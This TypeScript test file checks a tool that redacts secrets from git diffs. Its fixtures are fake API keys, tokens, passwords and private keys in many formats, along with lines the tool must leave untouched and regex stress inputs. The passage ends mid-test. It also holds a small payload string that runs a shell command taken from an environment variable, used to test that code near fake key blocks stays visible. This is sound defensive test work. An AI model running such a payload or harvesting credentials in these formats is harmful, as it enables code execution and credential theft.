import { generateKeyPairSync } from 'node:crypto'
import { describe, expect, it } from 'vitest'
import { findSecrets, redactPatch } from '../../src/evidence/redact.js'
import { isConfigFile } from '../../src/evidence/secret-values.js'
import { newFile } from './patch-text.js'

// Built by concatenation so this file holds no complete secret-looking literal.
const SECRETS: readonly { kind: string; line: string; value: string }[] = [
  {
    kind: 'private key',
    line: '-----BEGIN RSA ' + 'PRIVATE KEY-----',
    value: 'MIIEowIBAAKCAQEAzVeryPrivateBodyLine'
  },
  {
    kind: 'private key',
    line: '-----BEGIN OPENSSH ' + 'PRIVATE KEY-----',
    value: 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmU'
  },
  { kind: 'AWS access key', line: '', value: 'AKIA' + 'IOSFODNN7EXAMPLE' },
  { kind: 'AWS access key', line: '', value: 'ASIA' + 'Y34FZKBOKMUTVV7A' },
  { kind: 'GitHub token', line: '', value: 'ghp_' + 'a'.repeat(20) + '1234567890ABCDEF' },
  { kind: 'GitHub token', line: '', value: 'ghs_' + 'Z9'.repeat(18) },
  { kind: 'GitHub token', line: '', value: 'github_pat_' + '11ABCDEFG0' + '_x'.repeat(20) },
  { kind: 'OpenAI API key', line: '', value: 'sk-' + 'abc123DEF456ghi789JKL0mno' },
  { kind: 'OpenAI API key', line: '', value: 'sk-proj-' + 'Ab3_cD4-eF5gH6iJ7kL8mN9' },
  { kind: 'Anthropic API key', line: '', value: 'sk-ant-' + 'api03-Abc123Def456Ghi789Jkl' },
  { kind: 'Slack token', line: '', value: 'xoxb-' + '123456789012-abcdefABCDEF' },
  { kind: 'Google API key', line: '', value: 'AIza' + 'SyA1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q' },
  { kind: 'Stripe key', line: '', value: 'sk_live_' + '4eC39HqLyjWDarjtT1zdp7dc' },
  { kind: 'Stripe key', line: '', value: 'rk_live_' + '4eC39HqLyjWDarjtT1zdp7dc' },
  {
    kind: 'JWT',
    line: '',
    value:
      'eyJhbGciOiJIUzI1NiJ9' +
      '.eyJzdWIiOiIxMjM0NTY3ODkwIn0' +
      '.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U'
  },
  { kind: 'password or secret assignment', line: 'const password = "', value: 'hunter2hunter2' },
  { kind: 'password or secret assignment', line: "DB_PASSWD: '", value: 'c0rrect-h0rse' },
  { kind: 'password or secret assignment', line: '"api_key": "', value: 'live-1234567890' },
  { kind: 'password or secret assignment', line: "SECRET_KEY = '", value: 'django-insecure-x9' },
  { kind: 'password or secret assignment', line: 'private_key := `', value: 'abcdefgh12345678' },
  { kind: 'password or secret assignment', line: "'token' => '", value: 'tok-9f8e7d6c5b' }
]

describe('redactPatch', () => {
  it.each(SECRETS)('replaces a $kind, and nothing around it', ({ kind, line, value }) => {
    const closing = line.endsWith('"')
      ? '"'
      : line.endsWith("'")
        ? "'"
        : line.endsWith('`')
          ? '`'
          : ''
    const block = line.startsWith('-----')
    const lines = (secret: string): string[] =>
      block
        ? ['import x from "y"', line, secret]
        : ['import x from "y"', `${line}${secret}${closing}`, 'done()']
    const result = redactPatch(newFile('src/config.ts', lines(value)))
    expect(result).toEqual({
      // Only the value goes: the name it is assigned to, the quotes and the lines around stay.
      patch: newFile('src/config.ts', lines(`[redacted: ${kind}]`)),
      secrets: 1,
      kinds: [kind]
    })
  })

  it.each([
    'const tokenizer = new Tokenizer()',
    'password: string',
    'interface Login { password: string; token?: string }',
    "const secret = process.env.SECRET ?? ''",
    'password = "${DB_PASSWORD}"',
    "token: '{{ secrets.TOKEN }}'",
    'password: "********"',
    'api_key = get_key()',
    'const maxTokens = "60000000"',
    'pip install sk-learn-contrib-project-template',
    'aws_access_key_id = AKIAEXAMPLE',
    'const ghp = "ghp_short"',
    'const secretary = "Jane Doe-Smith"'
  ])('leaves ordinary code alone: %s', line => {
    const patch = newFile('src/config.ts', ['before', line, 'after'])
    expect(redactPatch(patch)).toEqual({ patch, secrets: 0, kinds: [] })
  })

  it('redacts only the secrets, in removed and context lines too', () => {
    const key = 'AKIA' + 'ABCDEFGHIJKLMNOP'
    const patch = [
      'diff --git a/app.py b/app.py',
      'index 1111111..2222222 100644',
      '--- a/app.py',
      '+++ b/app.py',
      '@@ -1,3 +1,3 @@ def clean():',
      ' a = 1',
      '-b = 2',
      '+b = 3',
      ' c = 4',
      '@@ -10,3 +10,2 @@ def leaky():',
      ` stays = "${key}"`,
      `-removed = "${'sk_live_' + 'abcdefghijklmnop1234'}"`,
      ' end = 1',
      '@@ -20,2 +19,2 @@',
      '-x = 1',
      '+x = 2',
      ''
    ].join('\n')
    const result = redactPatch(patch)
    expect(result.secrets).toBe(2)
    expect(result.kinds).toEqual(['AWS access key', 'Stripe key'])
    expect(result.patch).toBe(
      [
        'diff --git a/app.py b/app.py',
        'index 1111111..2222222 100644',
        '--- a/app.py',
        '+++ b/app.py',
        '@@ -1,3 +1,3 @@ def clean():',
        ' a = 1',
        '-b = 2',
        '+b = 3',
        ' c = 4',
        '@@ -10,3 +10,2 @@ def leaky():',
        ' stays = "[redacted: AWS access key]"',
        '-removed = "[redacted: Stripe key]"',
        ' end = 1',
        '@@ -20,2 +19,2 @@',
        '-x = 1',
        '+x = 2',
        ''
      ].join('\n')
    )
  })

  it('redacts a secret in the old line shown after a hunk header, keeping the rest', () => {
    const key = 'AKIA' + 'QQQQQQQQQQQQQQQQ'
    const patch = `diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -5,1 +5,1 @@ KEY = "${key}"\n-x\n+y\n`
    expect(redactPatch(patch).patch).toBe(
      'diff --git a/a b/a\n--- a/a\n+++ b/a\n@@ -5,1 +5,1 @@ KEY = "[redacted: AWS access key]"\n-x\n+y\n'
    )
  })

  it('leaves a patch without hunks (rename, mode change) as it is', () => {
    const patch = 'diff --git a/x b/y\nsimilarity index 100%\nrename from x\nrename to y\n'
    expect(redactPatch(patch)).toEqual({ patch, secrets: 0, kinds: [] })
  })

  it('finds each secret where it is, one span where patterns overlap, kinds in a fixed order', () => {
    const first = 'AKIA' + 'ABCDEFGHIJKLMNOP'
    const github = 'ghp_' + 'a'.repeat(20) + '1234567890ABCDEF'
    const text = `${first} password="abcdefgh1" token: "${github}"`
    const at = (value: string): { start: number; end: number } => ({
      start: text.indexOf(value),
      end: text.indexOf(value) + value.length
    })
    expect(findSecrets(text)).toEqual([
      { ...at(first), kinds: ['AWS access key'] },
      { ...at('abcdefgh1'), kinds: ['password or secret assignment'] },
      // The token is an assignment's value too: one secret, named first for what it is.
      {
        ...at(github),
        kinds: ['GitHub token', 'password or secret assignment', 'high-entropy secret']
      }
    ])
    expect(redactPatch(newFile('src/a.ts', [text])).patch).toContain(
      '+[redacted: AWS access key] password="[redacted: password or secret assignment]" token: "[redacted: GitHub token]"'
    )
  })
})

/** What `expectRedacted` compares `[redacted: kind]` as: the kind named is tested apart. */
const REDACTED = '[redacted]'

/**
 * Asserts that `patch` holds one secret, `value`, which redaction takes out naming `kind`, and
 * that everything else stays: the patch comes out as `expected`, which by default is `patch` with
 * `value` replaced. (Pass `expected` where the secret is less than `value`, or more.)
 */
function expectRedacted(
  patch: string,
  kind: string,
  value: string,
  expected = patch.replace(value, REDACTED)
): void {
  expect(patch).toContain(value)
  const result = redactPatch(patch)
  expect(result.secrets).toBe(1)
  expect(result.kinds).toContain(kind)
  expect(result.patch).not.toContain(value)
  expect(result.patch.replace(/\[redacted: [A-Za-z -]+\]/g, REDACTED)).toBe(expected)
}

function expectKept(patch: string): void {
  expect(redactPatch(patch)).toEqual({ patch, secrets: 0, kinds: [] })
}

/** A hunk changing `removed` into `added` between context lines, as `git diff` prints it. */
function changed(
  path: string,
  before: string[],
  removed: string[],
  added: string[],
  after: string[]
): string {
  const old = before.length + removed.length + after.length
  const now = before.length + added.length + after.length
  return [
    `diff --git a/${path} b/${path}`,
    'index 1111111..2222222 100644',
    `--- a/${path}`,
    `+++ b/${path}`,
    `@@ -10,${old} +10,${now} @@`,
    ...before.map(line => ` ${line}`),
    ...removed.map(line => `-${line}`),
    ...added.map(line => `+${line}`),
    ...after.map(line => ` ${line}`),
    ''
  ].join('\n')
}

// 40 characters, as AWS secret access keys are; built by concatenation like the rest.
const AWS_SECRET = 'wJalrXUtnFEMI/K7MDENG/' + 'bPxRfiCYzK9mQ2xLp7'

describe('redactPatch: AWS secret access keys', () => {
  it.each([
    ['deploy/release.sh', `export AWS_SECRET_ACCESS_KEY="${AWS_SECRET}"`],
    ['.github/workflows/deploy.yml', `          AWS_SECRET_ACCESS_KEY: ${AWS_SECRET}`],
    ['docs/setup.md', `aws_secret_access_key = ${AWS_SECRET}`],
    ['scripts/bootstrap.sh', `aws configure set aws_secret_access_key ${AWS_SECRET}`],
    ['test/fixtures/sts.json', `    "SecretAccessKey": "${AWS_SECRET}",`],
    ['src/s3.ts', `const client = new S3({ secretAccessKey: '${AWS_SECRET}' })`]
  ])('catches the key in %s', (path, line) => {
    expectRedacted(
      newFile(path, ['[default]', line, 'region = eu-west-1']),
      'AWS secret key',
      AWS_SECRET
    )
  })

  it('leaves the variable alone when it only names where the key comes from', () => {
    expectKept(
      newFile('.github/workflows/deploy.yml', [
        '        env:',
        '          AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}',
        '          AWS_SECRET_KEY_FILE: /run/secrets/aws'
      ])
    )
  })
})

describe('redactPatch: unquoted assignments', () => {
  it.each([
    ['docker-compose.yml', '      POSTGRES_PASSWORD: hunter2-super-secret', 'hunter2-super-secret'],
    ['config/app.yaml', '  secret: Kx9-rotating-2024', 'Kx9-rotating-2024'],
    ['config/app.yaml', '  token: tok_8f3a2c9d1e', 'tok_8f3a2c9d1e'],
    ['config/app.yml', '  api_key: ak-prod-5521-zeta', 'ak-prod-5521-zeta'],
    // In configuration any value is a literal, even one shaped like a word.
    ['docker-compose.yml', '      MYSQL_ROOT_PASSWORD: rootpassword1', 'rootpassword1'],
    [
      'src/main/resources/application.properties',
      'spring.datasource.password=Sup3rS3cret!',
      'Sup3rS3cret!'
    ],
    ['setup.cfg', 'password = correct-horse-battery', 'correct-horse-battery'],
    ['scripts/seed.sh', 'export DB_PASSWORD=correct-horse-battery', 'correct-horse-battery'],
    ['Dockerfile', 'ENV API_KEY=ak-live-20240101', 'ak-live-20240101'],
    ['config/app.ini', 'client_secret = cs-7f3e-9a1b-44c2', 'cs-7f3e-9a1b-44c2'],
    // Elsewhere only a value that cannot be code: a README's example, a query string.
    ['README.md', '    password: hunter2-super-secret', 'hunter2-super-secret'],
    ['src/client.ts', '// GET /v1/items?api_key=ak-prod-5521-zeta&page=2', 'ak-prod-5521-zeta'],
    ['settings.xml', '      <password>hunter2-super-secret</password>', 'hunter2-super-secret']
  ])('catches %s: %s', (path, line, value) => {
    expectRedacted(
      newFile(path, ['database:', line, 'done: true']),
      'password or secret assignment',
      value
    )
  })

  it.each([
    // Types and code, where they are written.
    ['src/user.ts', 'password: string'],
    ['src/user.ts', '  token: Token'],
    ['app/models.py', '    password: str'],
    ['app/models.py', '    password: Optional[str] = None'],
    ['app/models.py', '    api_key: SecretStr = Field(default=None)'],
    ['src/config.ts', '  secret: process.env.SECRET,'],
    ['src/config.ts', '  apiKey: config.apiKey,'],
    ['src/config.ts', '  apiKey: process.env.OPENAI_API_KEY!,'],
    ['src/config.ts', '  password: z.string().min(8),'],
    ['src/config.ts', '  token: options.token ?? defaultToken,'],
    ['src/config.ts', '  password: string | undefined'],
    ['src/login.ts', '    password = newPassword'],
    ['src/login.ts', '    tokens.map(token => token.trim())'],
    ['internal/config.go', '\tToken: os.Getenv("TOKEN"),'],
    ['src/config.rs', '    password: String,'],
    ['src/config.rs', '    token: impl Into<String>,'],
    ['lib/client.rb', '  token: ENV.fetch("API_TOKEN"),'],
    ['src/Config.kt', '    val token: String?'],
    // Placeholders, empty values and keywords, in configuration too.
    ['.github/workflows/ci.yml', '          token: ${{ secrets.X }}'],
    ['.github/workflows/ci.yml', '          password: ${{ secrets.DOCKERHUB_TOKEN }}'],
    ['config/app.yaml', '  password: <your-password>'],
    ['docs/install.md', '  password: <your-password>'],
    ['config/app.yaml', '  password: ""'],
    ['config/app.yaml', '  token: null'],
    ['src/config.ts', '  token: null,'],
    ['config/app.yaml', '  password: ${DB_PASSWORD}'],
    ['config/app.yaml', '  password: changeme'],
    ['config/app.yaml', '  password: YOUR_PASSWORD_HERE'],
    ['config/app.yaml', '  password: !vault |'],
    ['config/app.yaml', '  password: /run/secrets/db_password'],
    ['config/app.yaml', '  token: 1234567890'],
    ['scripts/run.sh', 'TOKEN=$(gh auth token)'],
    ['scripts/run.sh', 'export PASSWORD="${1:-}"'],
    // Names that hold a secret's name, or are not secrets at all.
    ['charts/db/values.yaml', '  existingSecret: my-release-postgresql'],
    ['k8s/deploy.yaml', '          secretName: tls-certificate'],
    ['.github/workflows/ci.yml', '  id-token: write'],
    ['.github/workflows/ci.yml', '    secrets: inherit'],
    ['config/app.yaml', '  max_token: 4096'],
    ['config/app.yaml', '  password:'],
    ['config/app.yaml', '    secretKeyRef: db-credentials']
  ])('leaves %s alone: %s', (path, line) => {
    expectKept(newFile(path, ['before', line, 'after']))
  })

  it('tells configuration from code by the file name in the patch header', () => {
    expect(isConfigFile('config/app.yaml')).toBe(true)
    expect(isConfigFile('deploy/Dockerfile')).toBe(true)
    expect(isConfigFile('scripts/run.SH')).toBe(true)
    expect(isConfigFile('src/app.ts')).toBe(false)
    expect(isConfigFile('README.md')).toBe(false)
    const line = '  password: Passw0rdWord'
    expectRedacted(
      newFile('config/app.yaml', [line]),
      'password or secret assignment',
      'Passw0rdWord'
    )
    // In TypeScript the same line assigns a variable.
    expectKept(newFile('src/app.ts', [line]))
    // A deleted file's header names it on the `---` line.
    const deleted = [
      'diff --git a/config/app.yaml b/config/app.yaml',
      'deleted file mode 100644',
      'index 1111111..0000000',
      '--- a/config/app.yaml',
      '+++ /dev/null',
      '@@ -1 +0,0 @@',
      `-${line}`,
      ''
    ].join('\n')
    expectRedacted(deleted, 'password or secret assignment', 'Passw0rdWord')
  })
})

describe('redactPatch: passwords in URLs', () => {
  // The password goes; the user and the host stay.
  it.each([
    [
      'src/db.ts',
      "const url = 'postgres://user:pass@host/db'",
      'user:pass@host',
      `user:${REDACTED}@host`
    ],
    [
      'scripts/fetch.sh',
      'curl -fsSL https://user:secret@example.com/artifact.tgz',
      'user:secret@example',
      `user:${REDACTED}@example`
    ],
    [
      '.github/workflows/ci.yml',
      '      MONGO_URL: mongodb+srv://u:p@cluster0.example.net/app',
      'u:p@cluster0',
      `u:${REDACTED}@cluster0`
    ],
    [
      'config/app.properties',
      'db.url=jdbc:mysql://admin:hunter2@db:3306/app',
      'admin:hunter2@db',
      `admin:${REDACTED}@db`
    ],
    [
      'docker-compose.yml',
      '      REDIS_URL: redis://:s3cret-pw@cache:6379/0',
      ':s3cret-pw@cache',
      `:${REDACTED}@cache`
    ]
  ])('catches %s: %s', (path, line, value, shown) => {
    const patch = newFile(path, ['before', line, 'after'])
    expectRedacted(patch, 'password in URL', value, patch.replace(value, shown))
  })

  it.each([
    "const home = 'https://example.com'",
    'git clone git@github.com:org/repo.git',
    "const proxy = 'http://user@host:3128'",
    "fetch('https://api.example.com:8443/v1/items?page=2')",
    "const ipv6 = 'http://[::1]:8080/health'",
    'const url = `postgres://${DB_USER}:${DB_PASSWORD}@db/app`',
    'remote = f"postgresql://{user}:{password}@{host}/db"',
    'git push https://x-access-token:${{ secrets.GITHUB_TOKEN }}@github.com/org/repo',
    "const masked = 'https://user:****@example.com'"
  ])('leaves a URL without a literal password alone: %s', line => {
    expectKept(newFile('src/urls.ts', ['before', line, 'after']))
  })
})

describe('redactPatch: Azure keys', () => {
  const accountKey =
    'Zm9vYmFy' +
    'Q2xvdWRLZXk9PT0rL3N0b3JhZ2VBY2NvdW50S2V5MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3BxcnN0dXZ3eHl6QUI' +
    '=='
  const sharedKey = 'c2hhcmVk' + 'QWNjZXNzS2V5MTIzNDU2Nzg5MGFiY2RlZmdo' + '='

  it('catches a storage connection string AccountKey', () => {
    const line = `  "Storage": "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey=${accountKey};EndpointSuffix=core.windows.net"`
    expectRedacted(
      newFile('src/Api/appsettings.json', ['{', line, '}']),
      'Azure access key',
      accountKey
    )
  })

  it('catches a Service Bus SharedAccessKey', () => {
    const line = `SERVICEBUS=Endpoint=sb://acme.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=${sharedKey}`
    expectRedacted(
      newFile('deploy/queue.ts', ['// queue', `// ${line}`, 'export {}']),
      'Azure access key',
      sharedKey
    )
  })

  it.each([
    'const cs = `DefaultEndpointsProtocol=https;AccountName=${name};AccountKey=${key}`',
    'AccountKey=<your-storage-account-key>',
    'string.Format("SharedAccessKeyName={0};SharedAccessKey={1}", name, key)'
  ])('leaves a connection string without a key alone: %s', line => {
    expectKept(newFile('src/storage.ts', ['before', line, 'after']))
  })
})

describe('redactPatch: Authorization headers', () => {
  const token = 'AbCdEf0123' + '456789GhIjKlMn'

  it.each([
    [
      'scripts/deploy.sh',
      `curl -H "Authorization: Bearer ${token}" https://api.example.com/deploy`
    ],
    ['src/client.ts', `const headers = { Authorization: 'Bearer ${token}' }`],
    ['docs/api.md', `    Authorization: bearer ${token}`]
  ])('catches a Bearer token in %s', (path, line) => {
    expectRedacted(newFile(path, ['before', line, 'after']), 'Bearer token', token)
  })

  it('catches Basic credentials, which are only base64', () => {
    const credentials = Buffer.from('deploy:hunter2-super').toString('base64')
    const line = `  -H 'Authorization: Basic ${credentials}' \\`
    expectRedacted(
      newFile('scripts/upload.sh', ['curl \\', line, '  https://example.com']),
      'Basic auth credentials',
      credentials
    )
  })

  it.each([
    'Bearer tokens are sent in the Authorization header of every request.',
    'Authorization: Bearer <token>',
    'Authorization: Bearer YOUR_ACCESS_TOKEN_HERE',
    'const headers = { Authorization: `Bearer ${token}` }',
    "const headers = { Authorization: 'Bearer ' + token }",
    'Use the bearer authentication-scheme-for-everything here.',
    'Basic authentication is not supported.',
    'Basic configuration lives in config.yaml.'
  ])('leaves prose and templates alone: %s', line => {
    expectKept(newFile('docs/auth.md', ['before', line, 'after']))
  })
})

describe('redactPatch: GCP service account keys', () => {
  const keyId = '3f2a9c1e' + '5b7d2f4a6c8e0b1d3f5a7c9e1b3d5f7a'
  const keyLine = 'Tq3c8Rk1' + 'Zx0pL7mN2bV5cX8zA4sD6fG9hJ1kL3qW5eR7tY9uI0oP2aS4dF6gH8jK0lZ2xC4vB6n'

  it('catches the key file even when the key is split over lines', () => {
    // As pasted into a YAML block: real line breaks inside the key, so its BEGIN line is broken.
    const lines = (key: string[]): string[] => [
      'GOOGLE_CREDENTIALS: |',
      '  {',
      '    "type": "service_account",',
      '    "project_id": "acme-prod",',
      ...key,
      '    "client_email": "deployer@acme-prod.iam.gserviceaccount.com"',
      '  }'
    ]
    const key = [
      '    "private_key": "-----BEGIN PRIVATE',
      `  KEY-----\\n${keyLine}`,
      `  ${keyLine}\\n-----END PRIVATE KEY-----\\n",`
    ]
    // The value goes, quote to quote; each of its lines keeps its place.
    expectRedacted(
      newFile('deploy/values.yaml', lines(key)),
      'GCP service account key',
      keyLine,
      newFile(
        'deploy/values.yaml',
        lines([`    "private_key": "${REDACTED}`, REDACTED, `${REDACTED}",`])
      )
    )
  })

  it('catches the key file as an escaped string in code', () => {
    const line = `const credentials = "{\\"type\\": \\"service_account\\", \\"private_key\\": \\"${keyLine}\\"}"`
    expectRedacted(
      newFile('test/gcp.ts', ['before', line, 'after']),
      'GCP service account key',
      keyLine
    )
  })

  it('takes the key out of a key file, and leaves the rest of it', () => {
    const key = `-----BEGIN PRIVATE KEY-----\\n${keyLine}\\n${keyLine.slice(0, 20)}==\\n-----END PRIVATE KEY-----\\n`
    const lines = (value: string, id: string): string[] => [
      '{',
      '  "type": "service_account",',
      `  "private_key_id": "${id}",`,
      `  "private_key": "${value}",`,
      '  "client_email": "deployer@acme-prod.iam.gserviceaccount.com"',
      '}'
    ]
    const result = redactPatch(newFile('deploy/gcp.json', lines(key, keyId)))
    expect(result).toEqual({
      patch: newFile(
        'deploy/gcp.json',
        lines('[redacted: private key]', '[redacted: GCP service account key]')
      ),
      secrets: 2,
      kinds: ['private key', 'GCP service account key']
    })
  })

  it('catches a hunk that shows only the key id, beside a changed address', () => {
    const patch = changed(
      'deploy/gcp.json',
      ['  "project_id": "acme-prod",', `  "private_key_id": "${keyId}",`],
      ['  "client_email": "old@acme-prod.iam.gserviceaccount.com",'],
      ['  "client_email": "new@acme-prod.iam.gserviceaccount.com",'],
      ['  "client_id": "123456789012345678901",']
    )
    expectRedacted(patch, 'GCP service account key', keyId)
  })

  it('leaves a description of the format alone', () => {
    expectKept(
      newFile('docs/gcp.md', [
        'The key file holds `"type": "service_account"` and a `client_email`.',
        '    "private_key_id": "<key-id>"'
      ])
    )
  })
})

describe('redactPatch: private keys without their BEGIN line', () => {
  const pem = (
    key: { export(options: { type: 'pkcs1' | 'pkcs8' | 'sec1'; format: 'pem' }): string | Buffer },
    type: 'pkcs1' | 'pkcs8' | 'sec1'
  ): string[] => key.export({ type, format: 'pem' }).toString().split('\n')
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const ec = generateKeyPairSync('ec', { namedCurve: 'prime256v1' })
  const ed = generateKeyPairSync('ed25519')

  it.each([
    ['RSA, PKCS#1', pem(rsa.privateKey, 'pkcs1')],
    ['RSA, PKCS#8', pem(rsa.privateKey, 'pkcs8')],
    ['EC, SEC1', pem(ec.privateKey, 'sec1')],
    ['EC, PKCS#8', pem(ec.privateKey, 'pkcs8')],
    ['Ed25519, PKCS#8', pem(ed.privateKey, 'pkcs8')]
  ])('catches the body of a %s key split from its BEGIN line', (_name, lines) => {
    const body = lines.slice(1, 4).filter(line => line !== '' && !line.startsWith('-----'))
    // The key built up in a string, one line at a time: the BEGIN line is in another hunk.
    const patch = newFile(
      'test/fixtures/keys.ts',
      body.map(line => `  '${line}\\n' +`)
    )
    // One secret over the lines: the first keeps what comes before the key, the last what after.
    const shown = body.map(
      (_, i) => `${i === 0 ? "  '" : ''}${REDACTED}${i === body.length - 1 ? "\\n' +" : ''}`
    )
    for (const line of body) expect(redactPatch(patch).patch).not.toContain(line)
    expectRedacted(
      patch,
      'private key',
      body[0] ?? 'missing',
      newFile('test/fixtures/keys.ts', shown)
    )
  })

  it("leaves a public key's body alone", () => {
    const spki = rsa.publicKey.export({ type: 'spki', format: 'pem' }).toString().split('\n')
    expectKept(
      newFile(
        'keys/signing.pub.ts',
        spki.slice(1, 4).map(line => `  '${line}' +`)
      )
    )
  })
})

describe('redactPatch: private key blocks', () => {
  /** A generated key's lines: its body is as real ones are, 64 characters a line but the last. */
  function pemKey(): { begin: string; body: string[]; end: string } {
    const lines = generateKeyPairSync('rsa', { modulusLength: 1024 })
      .privateKey.export({ type: 'pkcs1', format: 'pem' })
      .toString()
      .trim()
      .split('\n')
    return { begin: lines[0] ?? '', body: lines.slice(1, -1), end: lines.at(-1) ?? '' }
  }
  const { begin, body, end } = pemKey()
  const last = body.at(-1) ?? ''
  const payload = "require('child_process').exec(process.env.X)"
  const key = (p: string): string => `[redacted: ${p}]`
  const privateKey = key('private key')

  /** `newFile` of `lines`, and of `shown` once redacted, with one secret of kind private key. */
  function expectBlock(path: string, lines: string[], shown: string[]): void {
    const result = redactPatch(newFile(path, lines))
    expect(result).toEqual({ patch: newFile(path, shown), secrets: 1, kinds: ['private key'] })
    for (const line of body) expect(result.patch).not.toContain(line)
  }

  it('takes out the body, one line for each, and keeps the code on the BEGIN and END lines', () => {
    expectBlock(
      'src/keys.ts',
      [`${payload}; const pem = \`${begin}`, ...body, `${end}\`; ${payload}`],
      [`${payload}; const pem = \`${begin}`, ...body.map(() => privateKey), `${end}\`; ${payload}`]
    )
  })

  it('takes out a body built up in strings, keeping the first and last quotes', () => {
    expectBlock(
      'src/keys.ts',
      [`const pem = '${begin}\\n' +`, ...body.map(line => `  '${line}\\n' +`), `  '${end}'`],
      [
        `const pem = '${begin}\\n' +`,
        `  '${privateKey}`,
        ...body.slice(2).map(() => privateKey),
        `${privateKey}\\n' +`,
        `  '${end}'`
      ]
    )
  })

  it('takes out a body written on one line, with \\n or with spaces', () => {
    expectBlock(
      'src/key.json',
      [`{ "pem": "${[begin, ...body, end].join('\\n')}\\n", "next": 1 }`],
      [`{ "pem": "${begin}\\n${privateKey}\\n${end}\\n", "next": 1 }`]
    )
    expectBlock(
      'deploy/values.yaml',
      [`KEY: ${[begin, ...body, end].join(' ')}`, 'next: 1'],
      [`KEY: ${begin} ${privateKey} ${end}`, 'next: 1']
    )
  })

  it("keeps an encrypted key's headers, which are not secret", () => {
    const headers = ['Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,3F17F5316E2BAC89', '']
    expectBlock(
      'test/fixtures/encrypted.txt',
      [begin, ...headers, ...body, end],
      [begin, ...headers, ...body.map(() => privateKey), end]
    )
  })

  it('keeps the mark of each line: a key replaced by another', () => {
    const other = pemKey().body
    const patch = changed('test/fixtures/key.txt', [begin], body, other, [end])
    const result = redactPatch(patch)
    expect(result.patch).toBe(
      changed(
        'test/fixtures/key.txt',
        [begin],
        body.map(() => privateKey),
        other.map(() => privateKey),
        [end]
      )
    )
    expect(result.secrets).toBe(1)
    for (const line of [...body, ...other]) expect(result.patch).not.toContain(line)
  })

  it('takes out the short last line where the key ends after it', () => {
    expect(last.length).toBeLessThan(64)
    // The hunk ends with the key's body: the END line is in the next one.
    expectBlock('test/fixtures/key.txt', [begin, ...body], [begin, ...body.map(() => privateKey)])
    expectBlock(
      'src/pem.ts',
      [`const pem = \`${begin}`, ...body, `${end}\``],
      [`const pem = \`${begin}`, ...body.map(() => privateKey), `${end}\``]
    )
  })

  it('hides no code written between fake BEGIN and END lines, or after a BEGIN line alone', () => {
    const fake = ['// ' + begin, 'from os import system as log', `log(${payload})`]
    expectKept(newFile('src/log.py', [...fake, '// ' + end]))
    expectKept(newFile('src/log.py', fake))
    expectKept(newFile('src/pem.ts', [`const BEGIN = '${begin}'`, 'export function parse() {}']))
  })

  it("takes out a PuTTY key's private lines, and keeps its public ones", () => {
    const lines = (priv: string[]): string[] => [
      'PuTTY-User-Key-File-3: ssh-rsa',
      'Encryption: none',
      'Comment: deploy',
      'Public-Lines: 1',
      'AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7',
      `Private-Lines: ${body.length}`,
      ...priv,
      'Private-MAC: 0123456789abcdef'
    ]
    expectBlock('keys/deploy.txt', lines(body), lines(body.map(() => privateKey)))
  })
})

describe('redactPatch: long random values under secret names', () => {
  const base64 = 'q8Zt3Lw9' + 'XvB2nK7pR4sY6dF1hJ0mC5eG'
  const hex = '9f86d081' + '884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'

  it.each([
    ['src/oauth.ts', `const CLIENT_SECRET = '${base64}'`, base64],
    ['.github/workflows/release.yml', `          NPM_TOKEN: npm_${base64}`, `npm_${base64}`],
    ['config/secrets.rb', `Rails.application.config.secret_key_base = "${hex}"`, hex],
    ['src/webhooks.py', `WEBHOOK_SIGNING_KEY = ${base64}  # rotated monthly`, base64],
    ['test/fixtures/client.json', `  "client_secret": "${base64}",`, base64],
    ['src/session.go', `var sessionToken = "${hex}"`, hex]
  ])('catches %s: %s', (path, line, value) => {
    expectRedacted(newFile(path, ['before', line, 'after']), 'high-entropy secret', value)
  })

  it.each([
    "const API_KEY_HEADER = 'x-api-key'",
    'SIGNING_KEY: process.env.SIGNING_KEY_FOR_PRODUCTION_USE',
    "const primaryKey = 'organization_membership_id'",
    'const TOKEN = GITHUB_TOKEN_FROM_ENVIRONMENT_2024',
    "const cacheKey = 'userProfileSettingsCacheKey'",
    "const sha256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'",
    'const idempotencyKey = crypto.randomUUID()',
    "const CACHE_KEY = 'ab12ab12ab12ab12ab12ab12ab12'",
    'const apiKey = getApiKeyFromTheEnvironment(process.env)'
  ])('leaves names, digests and code alone: %s', line => {
    expectKept(newFile('src/keys.ts', ['before', line, 'after']))
  })
})

describe('redactPatch: adversarial input', () => {
  const MEGABYTE = 1 << 20
  const fill = (unit: string): string =>
    unit.repeat(Math.ceil(MEGABYTE / unit.length)).slice(0, MEGABYTE)

  // Each is a megabyte of one pattern's start, repeated with no match: a pattern that retried
  // its runs from every start would do about 10^12 steps here, and the test would time out.
  it.each([
    'password=',
    'password: ',
    'token:\t',
    'a:a@',
    '://a:',
    'key=AAAAAAAAAAAAAAAAAAAAAAAAAAAAA.',
    'Bearer ',
    'AccountKey=',
    'eyJaaaaaaa.',
    'sk-',
    '-----BEGIN A ',
    '"type":"service_account"',
    'secret_access_key ',
    'password>',
    '-----BEGIN PRIVATE ' + 'KEY-----',
    '-----BEGIN PRIVATE ' + 'KEY-----Proc-Type:',
    '-----BEGIN PRIVATE ' + 'KEY-----abc .',
    'a'
  ])('finds nothing in a 1 MB line of %j, in code and in configuration', unit => {
    const line = fill(unit)
    for (const path of ['src/big.ts', 'config/big.yaml']) {
      const patch = newFile(path, [line])
      expect(redactPatch(patch)).toEqual({ patch, secrets: 0, kinds: [] })
    }
  })

  // A secret file is read with more patterns: none of them may retry its runs either.
  it.each([
    'password=',
    'token="a ',
    'a:',
    'x=+b',
    '_authToken=a(',
    'password ',
    'Ab1/',
    'a:a:a:a:',
    ':$apr1$',
    'pass: 1a.',
    'key=a1',
    'a'
  ])('reads a 1 MB line of %j in a secret file once, and keeps its lines in place', unit => {
